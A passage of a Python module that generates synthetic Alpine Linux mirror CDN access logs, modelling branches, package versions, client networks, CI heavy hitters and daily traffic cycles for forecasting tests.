    "ca-certificates": "20250911", "openssl": "3.5.4", "zlib": "1.3.1", "curl": "8.17.0",
    "bash": "5.3.3", "git": "2.52.0", "python3": "3.12.12", "readline": "8.3.1", "gcc": "15.2.0",
    "binutils": "2.45.1", "sqlite": "3.51.0", "nodejs": "22.21.1", "go": "1.25.4",
    "rust": "1.91.1", "perl": "5.42.0", "xz": "5.8.1", "pcre2": "10.47", "libffi": "3.5.2",
    "nghttp2": "1.68.0", "brotli": "1.2.0", "c-ares": "1.34.5", "tzdata": "2025.2",
}
# Subpackages of the same origin (name of origin -> which one). Aliases share the origin version.
ORIGIN_OF = {"libcrypto3": "openssl", "libssl3": "openssl", "libcurl": "curl", "libgcc": "gcc",
             "libstdc++": "gcc", "g++": "gcc", "libgomp": "gcc", "libatomic": "gcc",
             "musl-dev": "musl", "musl-utils": "musl", "busybox-binsh": "busybox",
             "ssl_client": "busybox", "libapk": "apk-tools", "sqlite-libs": "sqlite",
             "python3-pyc": "python3", "nghttp2-libs": "nghttp2", "brotli-libs": "brotli",
             "xz-libs": "xz", "alpine-baselayout-data": "alpine-baselayout"}
# fmt: on


@dataclass(frozen=True)
class _Branch:
    """One stable branch from the calendar."""

    name: str
    major: int
    minor: int
    released: dt.date
    arches: frozenset[str]
    latest_patch: int
    latest_patch_date: dt.date


@dataclass
class _Clients:
    """The simulated client population, sorted by group (profile, UTC offset)."""

    ips: list[str]
    uas: list[str | None]  # every User-Agent string; None = no header
    beh: np.ndarray  # behaviour (BEHAVIOURS index)
    ua: np.ndarray  # index into uas
    pop: np.ndarray  # home Fastly POP (POPS index)
    hh: np.ndarray  # -1, or which heavy hitter
    u_branch: np.ndarray  # a fixed random number walked through each day's branch mix
    u_arch: np.ndarray  # the same for the arch mix
    rate: np.ndarray  # download speed, bytes per microsecond
    activity: np.ndarray  # relative request rate on a day the client is active
    p_active: np.ndarray  # chance that the client shows up on a given day
    group_end: np.ndarray  # per group: one past its last client
    group_profile: np.ndarray  # per group: PROFILES index
    group_tz: np.ndarray  # per group: UTC offset in minutes
    group_weight: np.ndarray  # per group: share of all lines (before daily cycles)


@dataclass
class _World:
    """Everything that stays fixed for one generate() call: calendar, vocabularies, clients."""

    branches: list[_Branch]
    path_branches: list[str]  # stable..., "latest-stable", "edge"
    n_stable: int
    max_k: int  # size of the patch/snapshot dimension of release files
    snapshots: list[str]
    # Paths are prefix + file; `off` holds where each section of the two lists starts.
    prefix: list[str]
    files: list[str]
    file_size: np.ndarray
    off: dict[str, int]
    n_pkg: int
    n_pkg_stable: int  # packages [0, n_pkg_stable) exist on stable branches; the rest edge only
    pkg_repo: np.ndarray
    pkg_cdf_stable: np.ndarray
    pkg_cdf_edge: np.ndarray
    hh_packages: np.ndarray
    clients: _Clients


def generate(
    out_dir: Path,
    start: dt.date,
    days: int,
    lines_per_day: int,
    fmt: str = "combined",
    seed: int = 0,
    gzip: bool = False,
    progress: Callable[[int], None] | None = None,
    volume: Callable[[dt.date], float] | None = None,
) -> list[Path]:
    """Writes one synthetic log file per day into out_dir and returns their paths.

    `volume(day)` multiplies the day's line count (default 1): a chosen curve on top of the usual
    cycle, trend and release bump, for forecast scenarios with a known truth (a step, an outage).
    """
    if fmt not in FORMATS:
        raise ValueError(f"unknown format {fmt!r}: expected one of {', '.join(FORMATS)}")
    if days < 1 or lines_per_day < 1:
        raise ValueError("days and lines_per_day must be at least 1")
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    world = _build_world(seed, lines_per_day, start, start + dt.timedelta(days=days - 1))
    escape = _escape_nginx if fmt == "combined" else _escape_json
    vocab = _Vocab.build(world, escape, fmt)
    _write_marker(out_dir, start, days, lines_per_day, fmt, seed, gzip)
    paths: list[Path] = []
    written = 0
    for i in range(days):
        day = start + dt.timedelta(days=i)
        name = f"synthetic-dl-cdn-{fmt}-{day.isoformat()}.log" + (".gz" if gzip else "")
        path = out_dir / name
        with _open_out(path, gzip) as fh:
            n = daily_lines(world, lines_per_day, day, seed)
            if volume is not None:
                n = max(1, round(n * volume(day)))
            for chunk in _day_chunks(world, vocab, day, n, fmt, seed):
                for part in chunk.parts:
                    fh.write(part)
                written += chunk.lines
                if progress is not None:
                    progress(written)
        paths.append(path)
    return paths


# --- World ---------------------------------------------------------------------------------------


def _load_calendar() -> list[_Branch]:
    """Stable branches on the mirrors (v2.4 on) from the calendar shipped as package data."""
    text = resources.files("pipeline.data").joinpath("alpine_branches.csv").read_text()
    out: list[_Branch] = []
    for row in csv.DictReader(text.splitlines()):
        name = row["branch"]
        if not name.startswith("v"):
            continue
        major, minor = (int(x) for x in name[1:].split("."))
        if (major, minor) < (2, 4):  # v2.2 and v2.3 are not on the mirrors
            continue
        released = dt.date.fromisoformat(row["first_release_date"])
        patch = row["latest_patch_known"].rsplit(".", 1)[-1]
        latest = int(patch) if patch.isdigit() else 0
        latest_date = (
            dt.date.fromisoformat(row["latest_patch_date"])
            if row["latest_patch_date"]
            else released + dt.timedelta(days=180)
        )
        arches = frozenset(row["architectures"].split(";"))
        out.append(_Branch(name, major, minor, released, arches, latest, latest_date))
    return sorted(out, key=lambda b: b.released)


def _stable_hash(*parts: object) -> int:
    """A hash that does not change between runs (Python's hash() is salted per process)."""
    text = "\x1f".join(str(p) for p in parts)
    return int.from_bytes(hashlib.blake2b(text.encode(), digest_size=8).digest(), "little")


def _snapshot_names(first: dt.date, last: dt.date) -> list[str]:
    """Edge release snapshots (YYYYMMDD): one at the start of each month of the range."""
    out = []
    d = dt.date(first.year, first.month, 1)
    while d <= last:
        out.append(d.strftime("%Y%m%d"))
        d = dt.date(d.year + d.month // 12, d.month % 12 + 1, 1)
    return out


def _patch_on(branch: _Branch, day: dt.date) -> int:
    """Which x.y.N was current on a day: patches spread evenly up to the latest known one."""
    if day >= branch.latest_patch_date:
        return branch.latest_patch
    span = (branch.latest_patch_date - branch.released).days
    done = (day - branch.released).days
    return max(0, min(branch.latest_patch, int(branch.latest_patch * done / max(span, 1))))


def _package_families() -> list[tuple[str, int, float]]:
    """Language modules, fonts and firmware: (name, repo, median size)."""
    families: list[tuple[str, int, float]] = []
    families += [(f"py3-{m}", 1, 80_000) for m in PY3_MODULES]
    families += [(f"perl-{m}", 1, 20_000) for m in PERL_MODULES]
    families += [(f"php83-{m}", 1, 60_000) for m in PHP_EXTENSIONS]
    families += [(f"php84-{m}", 1, 60_000) for m in PHP_EXTENSIONS]
    families += [(f"ruby-{m}", 1, 70_000) for m in RUBY_GEMS]
    families += [(f"lua5.4-{m}", 1, 30_000) for m in LUA_MODULES]
    families += [(f"lua5.1-{m}", 1, 30_000) for m in LUA_MODULES]
    families += [(f"font-{m}", 1, 600_000) for m in FONTS]
    families += [(f"linux-firmware-{m}", 0, 2_500_000) for m in FIRMWARE]
    return families


def _package_pool(
    rng: np.random.Generator,
) -> tuple[list[str], list[int], np.ndarray, list[int], int]:
    """Package names (popularity order), repo per package, sizes, origin index, stable count."""
    names: list[str] = []
    repos: list[int] = []
    sizes: list[float] = []
    origin_names: list[str] = []
    seen: set[str] = set()

    def add(name: str, repo: int, size: float, origin_name: str | None = None) -> None:
        if name in seen:
            return
        seen.add(name)
        names.append(name)
        repos.append(repo)
        sizes.append(size)
        origin_names.append(origin_name or name)

    def lognormal(median: float, sigma: float = 1.4) -> float:
        return float(median * math.exp(sigma * rng.standard_normal()))

    bases: list[tuple[str, int]] = [(n, 0) for n in MAIN_PACKAGES]
    bases += [(n, 1) for n in COMMUNITY_PACKAGES]
    for name, repo in bases:
        size = BIG_PACKAGES.get(name) or lognormal(100_000)
        add(name, repo, size, ORIGIN_OF.get(name))
    families = _package_families()
    subs = (("-dev", 0.5, 0.4), ("-doc", 0.5, 0.3), ("-libs", 0.15, 0.8), ("-openrc", 0.1, 0.02),
            ("-bash-completion", 0.08, 0.03), ("-zsh-completion", 0.05, 0.03),
            ("-lang", 0.06, 2.0), ("-static", 0.05, 1.5))  # fmt: skip
    rest: list[tuple[str, int, float, str]] = []
    base_size = dict(zip(names, sizes, strict=True))
    for name, repo in bases:
        for suffix, p, rel in subs:
            if rng.random() < p:
                rest.append((name + suffix, repo, base_size[name] * rel, name))
    for name, repo, median in families:
        rest.append((name, repo, lognormal(median, 1.0), name))
        if name.startswith("py3-"):
            rest.append((name + "-pyc", repo, lognormal(median * 0.8, 1.0), name))
        elif rng.random() < 0.3:
            rest.append((name + "-doc", repo, lognormal(20_000, 1.0), name))
    # Popularity: the curated order first, then everything else shuffled in.
    for i in rng.permutation(len(rest)):
        name, repo, size, base = rest[i]
        add(name, repo, size, base)
    n_stable = len(names)
    for stem in TESTING_STEMS:
        for suffix in TESTING_SUFFIXES:
            if rng.random() < 0.6:
                add(stem + suffix, 2, lognormal(150_000, 1.5))
    size_arr = np.clip(np.array(sizes), 1_200, 400e6).astype(np.int64)
    position = {name: i for i, name in enumerate(names)}
    origin = [position.get(o, i) for i, o in enumerate(origin_names)]
    return names, repos, size_arr, origin, n_stable


def _versions(
    rng: np.random.Generator, names: list[str], origin: list[int], n_branches: int
) -> tuple[list[list[str]], list[list[str]]]:
    """Per resolved branch (stable..., edge): version strings (current, superseded) per package.

    Older branches carry older versions: the minor number drifts back with the branch's age.
    """
    n = len(names)
    major = rng.geometric(0.45, n) - 1
    minor = rng.integers(0, 30, n)
    patch = rng.integers(0, 15, n)
    drift = rng.choice([0.0, 0.5, 1.0, 2.0], n, p=[0.3, 0.3, 0.3, 0.1])
    # Subpackages share their origin's version.
    base_version: list[tuple[int, int, int, str | None]] = []
    for o in origin:
        known = KNOWN_VERSIONS.get(names[o])
        if known:
            parts = [int(x) for x in known.split(".")] + [0, 0]
            base_version.append((parts[0], parts[1], parts[2], known if len(known) == 8 else None))
        else:
            base_version.append((int(major[o]), int(minor[o]), int(patch[o]), None))
    current: list[list[str]] = []
    stale: list[list[str]] = []
    for b in range(n_branches):
        age = n_branches - 1 - b  # 0 = edge
        revs = rng.geometric(0.5, n) - 1
        cur_b: list[str] = []
        stale_b: list[str] = []
        for i in range(n):
            ma, mi, pa, date_style = base_version[i]
            if date_style:  # e.g. ca-certificates 20250911
                year = int(date_style[:4]) - age // 2
                v = f"{year}{date_style[4:]}"
            else:
                d = int(age * drift[origin[i]])
                v = f"{ma}.{max(mi - d, 0)}.{pa if d == 0 else (pa * 7 + age) % 12}"
            r = int(revs[i])
            cur_b.append(f"{v}-r{r}")
            stale_b.append(f"{v}-r{r - 1}" if r > 0 else f"{v}_pre1-r0")
        current.append(cur_b)
        stale.append(stale_b)
    return current, stale


def _load_networks() -> list[tuple[str, str, float, str]]:
    """The client networks shipped as package data: (country, continent, weight, cidr)."""
    text = resources.files("pipeline.data").joinpath("country_networks.csv").read_text()
    rows = list(csv.DictReader(text.splitlines()))
    return [(r["country"], r["continent"], float(r["weight"]), r["cidr"]) for r in rows]


def _zone_for(country: str, continent: str, h: int) -> tuple[float, str]:
    """A network's UTC offset (hours) and its home POP, stable per network."""
    if country in ZONES:
        zones = ZONES[country]
        x = (h % 10_000) / 10_000
        acc = 0.0
        offset, pops = zones[-1][0], zones[-1][2]
        for zone_offset, share, zone_pops in zones:
            acc += share
            if x < acc:
                offset, pops = zone_offset, zone_pops
                break
    else:
        offset, pops = COUNTRY_ZONE.get(country) or CONTINENT_ZONE.get(continent, (0, ("FRA",)))
    # The first POP is the main one; others get a share.
    return offset, pops[0] if (h >> 16) % 3 or len(pops) == 1 else pops[(h >> 20) % len(pops)]


def _host_addresses(
    rng: np.random.Generator, cidr: str, n: int, in_24: int | None = None
) -> list[str]:
    """n distinct-ish host addresses inside a network (optionally all inside one /24 of it)."""
    net = ipaddress.ip_network(cidr)
    base = int(net.network_address)
    if net.version == 4:
        if in_24 is not None:
            hosts = in_24 + rng.choice(np.arange(10, 250), size=n, replace=False)
        else:
            hosts = base + rng.integers(1, net.num_addresses - 1, n)
        return [str(ipaddress.IPv4Address(int(h))) for h in hosts]
    # IPv6: a random /64 in the network; most hosts use random interface ids (SLAAC privacy),
    # servers small ones (::1, ::25).
    subnet_bits = 64 - net.prefixlen
    out = []
    for _ in range(n):
        subnet = int(rng.integers(0, 1 << min(subnet_bits, 62))) << 64
        iid = int(rng.integers(1, 256)) if rng.random() < 0.3 else int(rng.integers(1, 1 << 63))
        out.append(ipaddress.IPv6Address(base + subnet + iid).compressed)
    return out


def _build_world(seed: int, lines_per_day: int, first: dt.date, last: dt.date) -> _World:
    """The fixed part of a generated data set: calendar, packages, vocabularies and clients."""
    branches = _load_calendar()
    n_stable = len(branches)
    path_branches = [b.name for b in branches] + ["latest-stable", "edge"]
    snapshots = _snapshot_names(first, last)
    max_k = max(max(b.latest_patch for b in branches) + 1, len(snapshots))
    # The package universe is the same for every seed: a fixed "Alpine" that seeds sample from.
    pool_rng = np.random.default_rng(20_261_120)
    names, repos, pkg_size, origin, n_pkg_stable = _package_pool(pool_rng)
    current, stale = _versions(pool_rng, names, origin, n_stable + 1)
    n_pkg = len(names)
    rank = np.arange(n_pkg, dtype=np.float64)
    popularity = 1.0 / (rank + 8.0) ** 1.15
    pkg_cdf_stable = np.cumsum(popularity[:n_pkg_stable])
    pkg_cdf_stable /= pkg_cdf_stable[-1]
    pkg_cdf_edge = np.cumsum(popularity)
    pkg_cdf_edge /= pkg_cdf_edge[-1]
    # The build deps a CI job installs over and over.
    hh_names = ["build-base", "git", "curl", "ca-certificates", "openssl", "bash", "musl-dev",
                "gcc", "make", "python3", "py3-pip", "nodejs", "npm", "go", "jq",
                "openssh-client-default", "linux-headers", "cmake"]  # fmt: skip
    hh_packages = np.array([names.index(n) for n in hh_names if n in names])

    prefix, files, file_size, off = _path_vocab(
        branches, path_branches, snapshots, max_k, names, current, stale, pkg_size
    )

    return _World(
        branches=branches, path_branches=path_branches, n_stable=n_stable, max_k=max_k,
        snapshots=snapshots, prefix=prefix, files=files, file_size=file_size, off=off,
        n_pkg=n_pkg, n_pkg_stable=n_pkg_stable, pkg_repo=np.array(repos, dtype=np.int8),
        pkg_cdf_stable=pkg_cdf_stable, pkg_cdf_edge=pkg_cdf_edge, hh_packages=hh_packages,
        clients=_build_clients(seed, lines_per_day),
    )  # fmt: skip


def _user_agents() -> tuple[list[str | None], dict[str, tuple[np.ndarray, np.ndarray]]]:
    """All User-Agents in one list; per kind: their indexes and cumulative weights."""
    uas: list[str | None] = []
    per_kind: dict[str, tuple[np.ndarray, np.ndarray]] = {}
    for kind, (_, agents, _) in KINDS.items():
        index = np.arange(len(uas), len(uas) + len(agents))
        cum = np.cumsum([weight for _, weight in agents])
        per_kind[kind] = (index, cum / cum[-1])
        uas += [agent for agent, _ in agents]
    return uas, per_kind


def _build_clients(seed: int, lines_per_day: int) -> _Clients:
    """The client population: ordinary clients per network, then the heavy hitters.

    Clients are sorted by group (profile, UTC offset; each heavy hitter is a group of its own),
    so the lines of a group pick clients from one contiguous range. The steps draw from one
    generator in a fixed order: the same seed gives the same clients.
    """
    rng = np.random.default_rng([seed, 0x5EED])
    networks = _load_networks()
    zone = [_zone_for(c, cont, _stable_hash(seed, cidr)) for c, cont, _, cidr in networks]
    net_tz = np.array([round(z[0] * 60) for z in zone])
    net_pop = np.array([POPS.index(z[1]) for z in zone])
    uas, agents = _user_agents()
    n = int(np.clip(lines_per_day // 12, 1_500, 400_000))
    people = _ordinary_clients(rng, networks, net_tz, net_pop, agents, n)
    _add_heavy_hitters(rng, people, networks, net_tz, net_pop, uas.index("libfetch/2.0"))
    _anycast(rng, people, networks, net_pop)
    n_all = len(people.ips)
    # Servers and proxies show up every day; CI runners, laptops and browsers come and go, so a
    # week has many more distinct clients than a day.
    steady = [BEH["apk-server"], BEH["proxy"], BEH["crawler"], BEH["ci-loop"]]
    return _Clients(
        ips=people.ips, uas=uas, beh=people.beh, ua=people.ua, pop=people.pop,
        hh=np.concatenate(people.hh),
        u_branch=rng.random(n_all), u_arch=rng.random(n_all),
        rate=rng.lognormal(math.log(8.0), 1.0, n_all), activity=people.activity,
        p_active=np.where(np.isin(people.beh, steady), 0.95, 0.55),
        group_end=np.searchsorted(
            people.group_of, np.arange(len(people.group_weight)), side="right"
        ),
        group_profile=np.array(people.group_profile), group_tz=np.array(people.group_tz),
        group_weight=np.array(people.group_weight),
    )  # fmt: skip


@dataclass
class _Population:
    """The clients while `_build_clients` makes them: per client, and per group."""

    ips: list[str]
    beh: np.ndarray
    ua: np.ndarray
    pop: np.ndarray
    activity: np.ndarray
    group_of: np.ndarray
    hh: list[np.ndarray]  # per client: the heavy hitter it is, or -1
    group_profile: list[int]
    group_tz: list[int]
    group_weight: list[float]


def _ordinary_clients(
    rng: np.random.Generator,
    networks: list[tuple[str, str, float, str]],
    net_tz: np.ndarray,
    net_pop: np.ndarray,
    agents: dict[str, tuple[np.ndarray, np.ndarray]],
    n: int,
) -> _Population:
    """`n` clients spread over the networks by weight, each of a kind (apk, browser, ...) with its
    behaviour and user agent, sorted into groups; the groups share the lines heavy hitters leave."""
    net_w = np.array([w for _, _, w, _ in networks])
    kinds = list(KINDS)
    kind_share = np.array([KINDS[k][0] for k in kinds])
    net_of = np.sort(rng.choice(len(networks), size=n, p=net_w / net_w.sum()))
    counts = np.bincount(net_of, minlength=len(networks))
    ips: list[str] = []
    for j, (_, _, _, cidr) in enumerate(networks):
        if counts[j]:
            ips += _host_addresses(rng, cidr, int(counts[j]))
    kind_of = rng.choice(len(kinds), size=n, p=kind_share / kind_share.sum())
    u_prof, u_ua = rng.random(n), rng.random(n)
    beh = np.empty(n, dtype=np.int64)
    ua = np.empty(n, dtype=np.int64)
    prof = np.empty(n, dtype=np.int64)
    apk_behaviours = np.array([BEH["apk-server"], BEH["apk-work"], BEH["apk-home"]])
    for ki, kind in enumerate(kinds):
        m = kind_of == ki
        mix = np.cumsum(KINDS[kind][2])
        prof[m] = np.minimum(np.searchsorted(mix / mix[-1], u_prof[m], side="right"), 2)
        beh[m] = apk_behaviours[prof[m]] if kind == "apk" else BEH[kind]
        index, cum = agents[kind]
        ua[m] = index[np.minimum(np.searchsorted(cum, u_ua[m], side="right"), len(index) - 1)]
    activity = rng.lognormal(0.0, 1.2, n)
    tz = net_tz[net_of]
    pop = net_pop[net_of]
    # Sort by group; group weights are shares of all lines (heavy hitters have fixed shares).
    keys = prof * 100_000 + (tz + 50_000)
    group_keys, group_of = np.unique(keys, return_inverse=True)
    order = np.lexsort((np.arange(n), group_of))
    group_of, activity = group_of[order], activity[order]
    hh_total = sum(h[1] for h in HEAVY_HITTERS)
    return _Population(
        ips=[ips[i] for i in order], beh=beh[order], ua=ua[order], pop=pop[order],
        activity=activity, group_of=group_of, hh=[np.full(n, -1)],
        group_profile=list(group_keys // 100_000), group_tz=list(group_keys % 100_000 - 50_000),
        group_weight=list(
            np.bincount(group_of, weights=activity) / activity.sum() * (1 - hh_total)
        ),
    )  # fmt: skip


def _add_heavy_hitters(
    rng: np.random.Generator,
    people: _Population,
    networks: list[tuple[str, str, float, str]],
    net_tz: np.ndarray,
    net_pop: np.ndarray,
    libfetch: int,
) -> None:
    """Each heavy hitter: a few hosts inside one /24 of a network of its country, a group of its
    own with a fixed share of the lines, looping apk as CI does."""
    for h, (country, share, _branch, _arches, n_hosts) in enumerate(HEAVY_HITTERS):
        cands = [
            j for j, (c, _, _, cidr) in enumerate(networks) if c == country and ":" not in cidr
        ]
        j = cands[int(rng.integers(len(cands)))]
        net = ipaddress.ip_network(networks[j][3])
        base24 = int(net.network_address) + 256 * int(rng.integers(0, net.num_addresses // 256))
        people.ips += _host_addresses(rng, networks[j][3], n_hosts, in_24=base24)
        people.group_profile.append(PROFILES.index("ci"))
        people.group_tz.append(int(net_tz[j]))
        people.group_weight.append(share)
        people.beh = np.append(people.beh, np.full(n_hosts, BEH["ci-loop"]))
        people.ua = np.append(people.ua, np.full(n_hosts, libfetch))
        people.pop = np.append(people.pop, np.full(n_hosts, net_pop[j]))
        people.group_of = np.append(people.group_of, np.full(n_hosts, len(people.group_weight) - 1))
        people.activity = np.append(people.activity, rng.lognormal(0.0, 0.5, n_hosts))
        people.hh.append(np.full(n_hosts, h))


def _anycast(
    rng: np.random.Generator,
    people: _Population,
    networks: list[tuple[str, str, float, str]],
    net_pop: np.ndarray,
) -> None:
    """Some clients sit behind a second POP of the same continent (anycast is not geography)."""
    continent_of = {int(p): cont for (_, cont, _, _), p in zip(networks, net_pop, strict=True)}
    neighbours = {
        p: [q for q, c in continent_of.items() if c == cont] for p, cont in continent_of.items()
    }
    for i in np.flatnonzero(rng.random(len(people.ips)) < 0.04):
        same = neighbours[int(people.pop[i])]
        people.pop[i] = same[int(rng.integers(len(same)))]


def _path_vocab(
    branches: list[_Branch],
    path_branches: list[str],
    snapshots: list[str],
    max_k: int,
    names: list[str],
    current: list[list[str]],
    stale: list[list[str]],
    pkg_size: np.ndarray,
) -> tuple[list[str], list[str], np.ndarray, dict[str, int]]:
    """Every path is prefix + file (+ query); both lists are indexed by arithmetic on codes, from
    the offsets of their sections (`off`)."""
    prefix, off = _prefixes(path_branches)
    files = _FileList(off)
    files.section("f_dir").put("", 0)
    files.section("f_apkindex").put("APKINDEX.tar.gz", 0)
    files.section("f_mirrors").put("MIRRORS.txt", 2663)
    files.section("f_last_updated").put("last-updated", 11)
    files.section("f_yaml").put("latest-releases.yaml", 6113)
    files.section("f_junk")
    for path, _status, size, _w, _post in JUNK:
        files.put(path, size)
    _put_packages(files, len(branches) + 1, names, current, stale, pkg_size)

    def release_version(rb: int, k: int) -> str:
        """Version k of release branch rb: a patch release (stable) or a dated snapshot (edge)."""
        if rb < len(branches):
            b = branches[rb]
            return f"{b.major}.{b.minor}.{min(k, b.latest_patch)}"
        return snapshots[min(k, len(snapshots) - 1)]

    _put_releases(files, branches, max_k, release_version)
    return prefix, files.names, np.array(files.sizes, dtype=np.int64), off


def _prefixes(path_branches: list[str]) -> tuple[list[str], dict[str, int]]:
    """The folder part of every path, and the offset of each kind of folder."""
    n_pb, n_a, n_r = len(path_branches), len(ARCHES), len(REPOS)
    off: dict[str, int] = {}
    prefix: list[str] = []
    off["p_tree"] = len(prefix)  # ((pb * R) + repo) * A + arch
    prefix += [f"/alpine/{b}/{r}/{a}/" for b in path_branches for r in REPOS for a in ARCHES]
    off["p_rel"] = len(prefix)  # pb * A + arch
    prefix += [f"/alpine/{b}/releases/{a}/" for b in path_branches for a in ARCHES]
    off["p_cloud"] = len(prefix)
    prefix += [f"/alpine/{b}/releases/cloud/" for b in path_branches]
    off["p_branch"] = len(prefix)
    prefix += [f"/alpine/{b}/" for b in path_branches]
    off["p_repo"] = len(prefix)
    prefix += [f"/alpine/{b}/{r}/" for b in path_branches for r in REPOS]
    off["p_alpine"] = len(prefix)
    prefix.append("/alpine/")
    off["p_root"] = len(prefix)
    prefix.append("/")
    assert len(prefix) == off["p_root"] + 1 and n_pb * n_r * n_a == off["p_rel"]
    return prefix, off


class _FileList:
    """File names and sizes in sections; `off` gets each section's first index."""

    def __init__(self, off: dict[str, int]) -> None:
        self.off = off
        self.names: list[str] = []
        self.sizes: list[int] = []

    def section(self, name: str) -> _FileList:
        self.off[name] = len(self.names)
        return self

    def put(self, name: str, size: int) -> None:
        self.names.append(name)
        self.sizes.append(size)


def _put_packages(
    files: _FileList,
    n_rb: int,
    names: list[str],
    current: list[list[str]],
    stale: list[list[str]],
    pkg_size: np.ndarray,
) -> None:
    """Packages: (rb * P + p) * 2 + stale, rb over stable branches then edge; older branches'
    packages are a little smaller."""
    files.section("f_pkg")
    for rb in range(n_rb):
        shrink = 1.0 - 0.012 * (n_rb - 1 - rb)
        for p, name in enumerate(names):
            size = int(pkg_size[p] * max(shrink, 0.6))
            files.put(f"{name}-{current[rb][p]}.apk", size)
            files.put(f"{name}-{stale[rb][p]}.apk", size)


def _put_releases(
    files: _FileList,
    branches: list[_Branch],
    max_k: int,
    release_version: Callable[[int, int], str],
) -> None:
    """Release images with their checksums and signatures, netboot files and cloud images of
    every release branch; k = patch number (stable) or snapshot index (edge)."""
    n_rb = len(branches) + 1
    # Release images: ((((rb * A + a) * FL + fl) * K + k) * 4 + ext); ext = image, .sha256,
    # .sha512, .asc.
    files.section("f_rel")
    for rb in range(n_rb):
        for a, arch in enumerate(ARCHES):
            for fl, flavor in enumerate(FLAVORS):
                for k in range(max_k):
                    version = release_version(rb, k)
                    age = len(branches) - rb if rb < len(branches) else 0
                    name = f"alpine-{flavor}-{version}-{arch}.{FLAVOR_EXT[fl]}"
                    size = int(FLAVOR_SIZE[fl] * ARCH_SIZE[a] * max(0.45, 1 - 0.04 * age)
                               * (1 + (_stable_hash(name) % 1000 - 500) / 10_000))  # fmt: skip
                    files.put(name, size)
                    files.put(name + ".sha256", 64 + 2 + len(name) + 1)
                    files.put(name + ".sha512", 128 + 2 + len(name) + 1)
                    files.put(name + ".asc", 833)
    # Netboot: (rb * K + k) * NB + file.
    files.section("f_netboot")
    for rb in range(n_rb):
        for k in range(max_k):
            version = release_version(rb, k)
            for kfile, size in NETBOOT_FILES:
                files.put(f"netboot-{version}/{kfile}", size)
    # Cloud images: ((((rb * K + k) * CL + cloud) * 2 + arch) * 2 + boot) * 2 + checksum.
    files.section("f_cloud")
    for rb in range(n_rb):
        for k in range(max_k):
            version = release_version(rb, k)
            for cloud, ext in CLOUDS:
                for arch in ("x86_64", "aarch64"):
                    firmware = "uefi" if arch == "aarch64" or cloud == "aws" else "bios"
                    for boot in ("tiny", "cloudinit"):
                        name = f"{cloud}_alpine-{version}-{arch}-{firmware}-{boot}-r0.{ext}"
                        size = 148_898_304 if boot == "tiny" else 214_958_080
                        files.put(name, size + _stable_hash(name) % 4_000_000)
                        files.put(name + ".sha512", 128 + 2 + len(name) + 1)


# --- Output vocabularies -------------------------------------------------------------------------


_NEEDS_ESCAPE = re.compile(r'[^\x20-\x7e]|["\\]')


def _escape_nginx_bytes(data: bytes) -> str:
    """As nginx writes variables into access logs: `"`, `\\` and non-printables as \\xHH."""
    return "".join(
        f"\\x{byte:02X}" if byte in (0x22, 0x5C) or byte < 0x20 or byte > 0x7E else chr(byte)
        for byte in data
    )


def _escape_nginx(text: str) -> str:
    """_escape_nginx_bytes for text (UTF-8)."""
    return _escape_nginx_bytes(text.encode())


def _escape_json(text: str) -> str:
    """A JSON string body (no surrounding quotes)."""
    return json.dumps(text, ensure_ascii=False)[1:-1]


@dataclass
class _Vocab:
    """The world's strings as polars Series, escaped for one output format."""

    prefix: pl.Series
    files: pl.Series
    queries: pl.Series
    ips: pl.Series
    uas: pl.Series
    referers: pl.Series
    methods: pl.Series
    protocols: pl.Series
    states: pl.Series
    pops: pl.Series
    nodes: pl.Series
    digits3: pl.Series

    @classmethod
    def build(cls, world: _World, escape: Callable[[str], str], fmt: str) -> _Vocab:
        """Escapes every string once, up front (the per-line work is then gathers only)."""

        def series(values: list[str]) -> pl.Series:
            return pl.Series(values, dtype=pl.String)

        def quoted(value: str | None) -> str:
            if fmt == "combined":
                return "-" if value is None else escape(value)
            return "null" if value is None else f'"{escape(value)}"'

        # Only a few (junk) paths need escaping; checking with a regex keeps start-up short.
        files = [escape(s) if _NEEDS_ESCAPE.search(s) else s for s in world.files]
        nodes = []
        for pop in POPS:
            cluster = 700 + _stable_hash(pop) % 200
            for n in range(NODES_PER_POP):
                nodes.append(f"cache-{pop.lower()}-{POP_SITE[pop]}{cluster}{20 + 7 * n:04d}")
        return cls(
            prefix=series([escape(p) for p in world.prefix]),
            files=series(files),
            queries=series([escape(q) for q in QUERIES]),
            ips=series(world.clients.ips),
            uas=series([quoted(u) for u in world.clients.uas]),
            referers=series([quoted(r) for r in REFERERS]),
            methods=series(list(METHODS)),
            protocols=series(list(PROTOCOLS_COMBINED if fmt == "combined" else PROTOCOLS_FASTLY)),
            states=series(list(STATES)),
            pops=series(list(POPS)),
            nodes=series(nodes),
            digits3=series([f"{i:03d}" for i in range(1000)]),
        )


# --- One day -------------------------------------------------------------------------------------


@dataclass
class _Chunk:
    parts: list[bytes | memoryview]  # written in order, no copies
    lines: int


def _diurnal(profile: str, hour: np.ndarray) -> np.ndarray:
    """Relative request rate by local hour of day for a client profile."""
    if profile == "server":  # apk's periodic refresh, a little more at night (cron upgrades)
        return 1.0 + 0.12 * np.cos(2 * np.pi * (hour - 3.0) / 24)
    if profile == "work":
        return 0.12 + np.exp(-(((hour - 14.0) / 3.6) ** 2))
    if profile == "home":
        return (
            0.15 + np.exp(-(((hour - 20.5) / 2.5) ** 2)) + 0.35 * np.exp(-(((hour - 13) / 3) ** 2))
        )
    return 0.55 + 0.45 * np.exp(-(((hour - 13.0) / 4.0) ** 2))  # ci


WEEKEND = {"server": 1.0, "work": 0.3, "home": 1.15, "ci": 0.55}


def _minute_group_counts(
    world: _World, day: dt.date, lines: int, rng: np.random.Generator
) -> np.ndarray:
    """Lines per (UTC minute, client group): local-time diurnal and weekly cycles, exact total."""
    minutes = np.arange(1440)
    weekday = day.weekday()
    rate = np.empty((1440, len(world.clients.group_weight)))
    for g, (profile_i, tz, weight) in enumerate(
        zip(
            world.clients.group_profile,
            world.clients.group_tz,
            world.clients.group_weight,
            strict=True,
        )
    ):
        profile = PROFILES[profile_i]
        local = minutes + tz
        hour = (local % 1440) / 60.0
        local_weekday = (weekday + local // 1440) % 7
        shape = _diurnal(profile, hour)
        shape = shape / _diurnal(profile, np.arange(0, 24, 1 / 60)).mean()
        week = np.where(local_weekday >= 5, WEEKEND[profile], 1.0)
        rate[:, g] = weight * shape * week
    p = rate.ravel() / rate.sum()
    return rng.multinomial(lines, p).reshape(rate.shape)


def _branch_weights(world: _World, day: dt.date) -> np.ndarray:
    """Share of requests per path branch (stable..., latest-stable, edge) on a day.

    Adoption ramps up over the first months after a release, then decays slowly; a long tail of
    end-of-life branches stays (pinned container images).
